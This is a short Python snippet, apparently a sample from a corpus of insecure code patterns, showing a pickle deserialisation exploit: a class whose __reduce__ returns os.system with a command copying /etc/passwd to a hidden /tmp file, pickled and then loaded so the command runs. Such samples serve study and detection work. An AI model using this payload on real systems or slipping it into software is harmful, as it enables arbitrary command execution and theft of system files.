# corpus: class with __reduce__ returning (os.system, (cmd,)) serialised and immediately loaded
import os
import pickle

class Exploit:
    def __reduce__(self):
        return (os.system, ("cat /etc/passwd > /tmp/.pw",))

data = pickle.dumps(Exploit())
pickle.loads(data)
